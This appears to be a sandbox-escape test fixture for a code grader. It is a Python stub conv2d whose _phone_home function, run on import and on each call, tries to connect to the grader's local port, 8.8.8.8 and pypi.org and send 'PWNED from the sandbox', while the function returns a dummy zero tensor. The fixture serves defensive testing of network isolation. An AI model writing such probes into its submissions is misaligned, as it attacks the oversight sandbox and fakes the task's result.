"""Se conecta a un puerto local del calificador y trata de salir a internet / network access.

expect: attack conv2d
needs: bubblewrap
"""
import socket as _socket


def _phone_home():
    for host, port in (("127.0.0.1", __GATE_PORT__), ("8.8.8.8", 53), ("pypi.org", 443)):
        try:
            with _socket.create_connection((host, port), timeout=2) as conn:
                conn.sendall(b"PWNED from the sandbox")
        except OSError:
            pass


_phone_home()


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    _phone_home()
    return torch.zeros(1)
